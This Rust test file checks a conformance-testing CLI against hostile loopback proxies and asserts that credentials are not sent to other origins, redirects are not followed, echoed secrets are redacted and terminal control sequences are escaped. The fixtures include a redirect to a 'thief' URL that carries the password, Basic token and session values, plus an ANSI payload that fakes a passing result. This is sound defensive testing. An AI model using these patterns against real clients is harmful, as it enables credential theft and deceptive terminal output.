//! The agent's credentials stay with the target, and what the target sends back cannot leak
//! them or drive the terminal. Hostile loopback servers (proxies in front of the reference
//! server, written here) try it:
//! - a provider-state endpoint on another origin records what it receives: no `Authorization`,
//!   no cookie, no CSRF token (unless `--state-credentials`); with userinfo in `--state-url`,
//!   exactly one `Authorization`, its own;
//! - a target redirects to another origin (a recording "thief" server): nothing reaches it, and
//!   the run says why; a redirect from http to https is named as such;
//! - a target echoes the `Authorization` header, the cookie and the CSRF token in a login error
//!   page and in an operation's `statusMessage`: no secret (password, its base64 Basic form,
//!   CSRF token, JSESSIONID value) in the console (GitHub workflow commands included), the JUnit
//!   file, the Cucumber JSON, the HTML report, the Markdown and GitHub step summaries;
//! - every run ends within its timeouts plus start-up, with a peak RSS under 100 MiB;
//! - a target answers a body of terminal control sequences printing a fake green "16 passed"
//!   line: the console shows them escaped.

#[allow(unused_imports)] // only the proxy of the fault-test support is used here
mod fault_support;

use std::{
    path::Path,
    process::Command,
    sync::{Arc, Mutex},
    time::Duration,
};

use axum::http::{HeaderMap, header};
use base64::Engine as _;
use fault_support::{
    PEAK_RSS_KIB, measured,
    proxy::{
        Ctx, Hook, Proxy, ProxyRequest, connect_of, connect_reply, hook, pass_through, respond,
    },
};
use gws_reference_server::{RunningServer, ServerConfig, start};

const PASSWORD: &str = "secret1";
const BASIC: &str = "YWdlbnQxOnNlY3JldDE="; // base64("agent1:secret1")

async fn reference() -> RunningServer {
    start(
        ServerConfig::default(),
        std::net::SocketAddr::from(([127, 0, 0, 1], 0)),
    )
    .await
    .expect("the reference server starts")
}

/// Everything a run printed and wrote.
struct Output {
    code: Option<i32>,
    stdout: String,
    /// stdout, stderr and every file in the report directory, concatenated.
    everything: String,
}

/// Runs the binary (blocking, on a worker thread) against `target` with `args`, every report in
/// `dir` (JUnit, Cucumber JSON, HTML, Markdown summary, a GitHub step summary) and GitHub's
/// workflow commands on.
async fn run(dir: &Path, target: &str, args: &[&str]) -> Output {
    let mut full = vec![
        "run".to_string(),
        "--color".into(),
        "never".into(),
        "--request-timeout".into(),
        "5s".into(),
    ];
    for (flag, file) in [
        ("--junit", "junit.xml"),
        ("--json", "cucumber.json"),
        ("--html", "report.html"),
        ("--summary", "summary.md"),
    ] {
        full.push(flag.into());
        full.push(dir.join(file).display().to_string());
    }
    full.push("--target".into());
    full.push(target.into());
    full.extend(args.iter().map(|a| a.to_string()));
    let step_summary = dir.join("github-step-summary.md");
    let m = tokio::task::spawn_blocking(move || {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_gws-conformance"));
        cmd.args(&full)
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_STEP_SUMMARY", step_summary)
            .env_remove("GWS_TARGET")
            .env_remove("GWS_PASSWORD")
            .env_remove("GWS_STATE_URL");
        measured(cmd)
    })
    .await
    .unwrap();
    eprintln!(
        "hostile run: exit {:?}, {:?}, peak RSS {} MiB",
        m.code,
        m.wall,
        m.peak_kib / 1024
    );
    // Bounded whatever the target answers: the request timeout (5 s) and the default
    // notification timeout (5 s), plus start-up.
    assert!(
        m.wall < Duration::from_secs(14),
        "the run took {:?}",
        m.wall
    );
    assert!(
        m.peak_kib < PEAK_RSS_KIB,
        "peak RSS {} MiB (bound 100 MiB)",
        m.peak_kib / 1024
    );
    let stdout = m.stdout;
    let mut everything = format!("{stdout}\n{}", m.stderr);
    for entry in walk(dir) {
        everything.push_str(&String::from_utf8_lossy(
            &std::fs::read(&entry).unwrap_or_default(),
        ));
    }
    Output {
        code: m.code,
        stdout,
        everything,
    }
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            files.extend(walk(&p));
        } else {
            files.push(p);
        }
    }
    files
}

/// The headers of every request a server received.
type Seen = Arc<Mutex<Vec<(String, HeaderMap)>>>;

/// A proxy to `upstream` recording every request's path and headers, answering as `inner`.
async fn recording(upstream: &str, inner: Hook) -> (Proxy, Seen) {
    let seen: Seen = Arc::default();
    let s = Arc::clone(&seen);
    let h = hook(move |ctx: Ctx, req: ProxyRequest| {
        s.lock()
            .unwrap()
            .push((req.path.clone(), req.headers.clone()));
        inner(ctx, req)
    });
    (Proxy::start(upstream, h).await, seen)
}

fn state_calls(seen: &Seen) -> Vec<HeaderMap> {
    seen.lock()
        .unwrap()
        .iter()
        .filter(|(p, _)| p.starts_with("/conformance/states"))
        .map(|(_, h)| h.clone())
        .collect()
}

const ONE_SCENARIO: &str = "@chat and @accept and not @inferred";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_state_url_on_another_origin_gets_no_credential_cookie_or_csrf_token() {
    let server = reference().await;
    let (state, seen) = recording(&server.base_url(), pass_through()).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(
        dir.path(),
        &server.base_url(),
        &[
            "--state-url",
            &format!("{}/conformance/states", state.base_url()),
            "--tags",
            ONE_SCENARIO,
        ],
    )
    .await;
    assert_eq!(out.code, Some(0), "{}", out.stdout);
    let calls = state_calls(&seen);
    assert!(!calls.is_empty(), "the state endpoint was used");
    for h in &calls {
        for name in [
            header::AUTHORIZATION.as_str(),
            header::COOKIE.as_str(),
            "x-csrf-token",
        ] {
            assert!(
                h.get(name).is_none(),
                "{name} sent to another origin: {h:?}"
            );
        }
    }
    state.shutdown().await;
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_state_url_with_userinfo_gets_exactly_its_own_authorization() {
    let server = reference().await;
    let (state, seen) = recording(&server.base_url(), pass_through()).await;
    let own = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode("state-user:state pass")
    );
    let dir = tempfile::tempdir().unwrap();
    let url = state
        .base_url()
        .replace("http://", "http://state-user:state%20pass@");
    let out = run(
        dir.path(),
        &server.base_url(),
        &[
            "--state-url",
            &format!("{url}/conformance/states"),
            "--tags",
            ONE_SCENARIO,
        ],
    )
    .await;
    assert_eq!(out.code, Some(0), "{}", out.stdout);
    let calls = state_calls(&seen);
    assert!(!calls.is_empty());
    for h in &calls {
        let auth: Vec<_> = h.get_all(header::AUTHORIZATION).iter().collect();
        assert_eq!(auth, vec![own.as_str()], "{h:?}");
        assert!(h.get(header::COOKIE).is_none(), "{h:?}");
    }
    assert!(!out.everything.contains("state pass"), "{}", out.everything);
    state.shutdown().await;
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn state_credentials_sends_the_agents_authorization_and_csrf_token_but_no_cookie() {
    let server = reference().await;
    let (state, seen) = recording(&server.base_url(), pass_through()).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(
        dir.path(),
        &server.base_url(),
        &[
            "--state-url",
            &format!("{}/conformance/states", state.base_url()),
            "--state-credentials",
            "--tags",
            ONE_SCENARIO,
        ],
    )
    .await;
    assert_eq!(out.code, Some(0), "{}", out.stdout);
    for h in &state_calls(&seen) {
        let auth: Vec<_> = h.get_all(header::AUTHORIZATION).iter().collect();
        assert_eq!(auth, vec![format!("Basic {BASIC}").as_str()], "{h:?}");
        assert!(h.get("x-csrf-token").is_some(), "{h:?}");
        assert!(h.get(header::COOKIE).is_none(), "{h:?}");
    }
    state.shutdown().await;
    server.shutdown().await;
}

fn redirect_to(location: String) -> axum::response::Response {
    let mut r = respond(307, "text/plain", "moved");
    r.headers_mut()
        .insert(header::LOCATION, location.parse().unwrap());
    r
}

fn is_start_session(req: &ProxyRequest) -> bool {
    req.path == "/api/v2/me"
        && req.json().get("operationName").and_then(|v| v.as_str())
            == Some("StartContactCenterSession")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_to_another_origin_is_not_followed_and_carries_nothing() {
    let server = reference().await;
    // The thief records whatever reaches it.
    let (thief, stolen) = recording(&server.base_url(), pass_through()).await;
    let thief_url = thief.base_url();
    // After login (cookie and CSRF token issued), the target sends StartContactCenterSession
    // elsewhere with a 307 (method, body and, when followed, headers kept).
    let hostile = hook(move |ctx: Ctx, req: ProxyRequest| {
        let to = format!("{thief_url}/api/v2/me");
        async move {
            if is_start_session(&req) {
                return redirect_to(to);
            }
            ctx.upstream.forward(&req).await.into_response()
        }
    });
    let target = Proxy::start(&server.base_url(), hostile).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &target.base_url(), &["--tags", ONE_SCENARIO]).await;
    assert_eq!(out.code, Some(2), "{}", out.stdout);
    let stolen = stolen.lock().unwrap().clone();
    assert!(
        stolen.is_empty(),
        "requests followed the redirect to another origin: {stolen:?}"
    );
    assert!(
        out.stdout.contains("redirects to another origin"),
        "{}",
        out.stdout
    );
    target.shutdown().await;
    thief.shutdown().await;
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_from_http_to_https_is_named() {
    let server = reference().await;
    let hostile = hook(|ctx: Ctx, req: ProxyRequest| async move {
        if req.method == "GET" && req.path == "/api/v2/me" {
            let host = req
                .headers
                .get(header::HOST)
                .and_then(|h| h.to_str().ok())
                .unwrap_or("127.0.0.1")
                .to_string();
            return redirect_to(format!("https://{host}/api/v2/me"));
        }
        ctx.upstream.forward(&req).await.into_response()
    });
    let target = Proxy::start(&server.base_url(), hostile).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &target.base_url(), &[]).await;
    assert_eq!(out.code, Some(2), "{}", out.stdout);
    assert!(
        out.stdout.contains("redirects from http to https"),
        "{}",
        out.stdout
    );
    target.shutdown().await;
    server.shutdown().await;
}

/// The secrets of the session a request carries: the CSRF token and the JSESSIONID value.
fn session_secrets(h: &HeaderMap) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(t) = h.get("x-csrf-token").and_then(|v| v.to_str().ok()) {
        out.push(t.to_string());
    }
    for c in h.get_all(header::COOKIE) {
        for pair in c.to_str().unwrap_or_default().split(';') {
            if let Some(v) = pair.trim().strip_prefix("JSESSIONID=") {
                out.push(v.to_string());
            }
        }
    }
    out
}

/// What a request carried, echoed back.
fn echo(h: &HeaderMap) -> String {
    let get = |n: &str| {
        h.get_all(n)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .collect::<Vec<_>>()
            .join(", ")
    };
    format!(
        "Authorization: {} / Cookie: {} / X-CSRF-TOKEN: {} / password: {PASSWORD}",
        get("authorization"),
        get("cookie"),
        get("x-csrf-token")
    )
}

fn assert_no_secret(out: &Output, session: &[String]) {
    assert!(!session.is_empty(), "the target issued a session");
    for secret in [PASSWORD, BASIC]
        .into_iter()
        .chain(session.iter().map(String::as_str))
    {
        assert!(
            !out.everything.contains(secret),
            "`{secret}` in the output:\n{}",
            out.everything
        );
    }
    assert!(out.everything.contains("[redacted]"), "{}", out.everything);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_login_error_page_echoing_the_credentials_shows_none_of_them() {
    let server = reference().await;
    let session: Arc<Mutex<Vec<String>>> = Arc::default();
    let s = Arc::clone(&session);
    let hostile = hook(move |ctx: Ctx, req: ProxyRequest| {
        let s = Arc::clone(&s);
        async move {
            if is_start_session(&req) {
                s.lock().unwrap().extend(session_secrets(&req.headers));
                let page = format!(
                    "<html><body>500 Internal Error {}</body></html>",
                    echo(&req.headers)
                );
                return respond(500, "text/html", page);
            }
            ctx.upstream.forward(&req).await.into_response()
        }
    });
    let target = Proxy::start(&server.base_url(), hostile).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &target.base_url(), &[]).await;
    assert_eq!(out.code, Some(2), "{}", out.stdout);
    assert_no_secret(&out, &session.lock().unwrap());
    target.shutdown().await;
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_status_message_echoing_the_credentials_shows_none_of_them() {
    let server = reference().await;
    let session: Arc<Mutex<Vec<String>>> = Arc::default();
    let s = Arc::clone(&session);
    let hostile = hook(move |ctx: Ctx, req: ProxyRequest| {
        let s = Arc::clone(&s);
        async move {
            if req.operation().is_some_and(|(_, _, op)| op == "Accept") {
                s.lock().unwrap().extend(session_secrets(&req.headers));
                let body =
                    serde_json::json!({"statusCode": 1, "statusMessage": echo(&req.headers)});
                return respond(200, "application/json", body.to_string());
            }
            ctx.upstream.forward(&req).await.into_response()
        }
    });
    let target = Proxy::start(&server.base_url(), hostile).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(
        dir.path(),
        &target.base_url(),
        &["--tags", ONE_SCENARIO, "--notification-timeout", "1s"],
    )
    .await;
    assert_eq!(out.code, Some(1), "{}", out.stdout);
    assert_no_secret(&out, &session.lock().unwrap());
    target.shutdown().await;
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn control_sequences_from_the_target_reach_the_console_escaped() {
    let server = reference().await;
    // Erase the line, print a green fake counts line, then hide everything after it.
    let fake = "\u{1b}[2K\r\u{1b}[32m16 passed, 0 failed, 0 errors, 0 skipped\u{1b}[0m\n\u{1b}]0;owned\u{7}\u{8}\0\u{9b}8m\u{1b}[8m";
    let hostile = hook(move |ctx: Ctx, req: ProxyRequest| async move {
        if is_start_session(&req) {
            return respond(500, "text/plain", fake);
        }
        ctx.upstream.forward(&req).await.into_response()
    });
    let target = Proxy::start(&server.base_url(), hostile).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &target.base_url(), &[]).await;
    assert_eq!(out.code, Some(2), "{}", out.stdout);
    for c in ['\u{1b}', '\u{7}', '\u{8}', '\0', '\u{9b}', '\r'] {
        assert!(
            !out.stdout.contains(c),
            "{:?} reached the console:\n{:?}",
            c,
            out.stdout
        );
    }
    assert!(
        !out.stdout.lines().any(|l| l.starts_with("16 passed")),
        "{}",
        out.stdout
    );
    assert_eq!(
        out.stdout.lines().last(),
        Some("0 passed, 0 failed, 1 errors, 0 skipped"),
        "{}",
        out.stdout
    );
    target.shutdown().await;
    server.shutdown().await;
}

/// The attacks of issue 12's "done when", each echoing the credentials it received in what it
/// sends: a flood of notifications, a `402::unknown client` on every connect, an error page, a
/// redirect to another origin whose URL carries them. No run shows the password, its base64
/// form, the CSRF token or the JSESSIONID value in any output.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_attack_gets_a_secret_into_any_output() {
    use fault_support::proxy::batch;
    use serde_json::{Value, json};
    let server = reference().await;
    let (thief, _) = recording(&server.base_url(), pass_through()).await;
    for attack in ["flood", "402-loop", "echo", "redirect"] {
        let session: Arc<Mutex<Vec<String>>> = Arc::default();
        let s = Arc::clone(&session);
        let thief_url = thief.base_url();
        let hostile = hook(move |ctx: Ctx, req: ProxyRequest| {
            let s = Arc::clone(&s);
            let thief_url = thief_url.clone();
            async move {
                s.lock().unwrap().extend(session_secrets(&req.headers));
                let echoed = echo(&req.headers);
                let connect = req.has_channel("/meta/connect");
                match attack {
                    "flood" if connect => {
                        let fwd = ctx.upstream.forward(&req).await;
                        let mut messages = batch(&fwd.json());
                        messages.extend((0..5_000).map(|i| {
                            json!({"channel": "/v2/me/chats", "data": {
                                "messageType": "ChatStateChangeMessage", "notificationType": "StatusChange",
                                "statusMessage": echoed,
                                "chat": {"id": format!("FLOOD{i:011}"), "state": echoed}}})
                        }));
                        fwd.with_json(&Value::Array(messages)).into_response()
                    }
                    "402-loop" if connect => match connect_of(&req) {
                        Some(c) => connect_reply(
                            &c,
                            json!({"successful": false,
                                   "error": format!("402::unknown client {echoed}"),
                                   "advice": {"reconnect": "handshake", "interval": 0}}),
                        ),
                        None => ctx.upstream.forward(&req).await.into_response(),
                    },
                    "echo" if req.operation().is_some() => {
                        respond(500, "text/html", format!("<h1>500</h1><pre>{echoed}</pre>"))
                    }
                    "redirect" if req.operation().is_some() => {
                        let token = session_secrets(&req.headers).join("&t=");
                        redirect_to(format!(
                            "{thief_url}/steal?t={token}&b={BASIC}&p={PASSWORD}"
                        ))
                    }
                    _ => ctx.upstream.forward(&req).await.into_response(),
                }
            }
        });
        let target = Proxy::start(&server.base_url(), hostile).await;
        let dir = tempfile::tempdir().unwrap();
        let out = run(
            dir.path(),
            &target.base_url(),
            &["--tags", ONE_SCENARIO, "--notification-timeout", "1s"],
        )
        .await;
        target.shutdown().await;
        assert!(
            matches!(out.code, Some(1 | 2)),
            "{attack}: exit {:?}\n{}",
            out.code,
            out.stdout
        );
        assert!(
            out.everything.contains("<testsuites"),
            "{attack}: the JUnit file is written"
        );
        if attack != "flood" {
            // The echo reached the outputs, masked (the flood is cut off before it is shown).
            assert!(
                out.everything.contains("[redacted]"),
                "{attack}: {}",
                out.everything
            );
        }
        let session = session.lock().unwrap().clone();
        assert!(!session.is_empty(), "{attack}: the target issued a session");
        for secret in [PASSWORD, BASIC]
            .into_iter()
            .chain(session.iter().map(String::as_str))
        {
            assert!(
                !out.everything.contains(secret),
                "{attack}: `{secret}` in the output:\n{}",
                out.everything
            );
        }
    }
    thief.shutdown().await;
    server.shutdown().await;
}
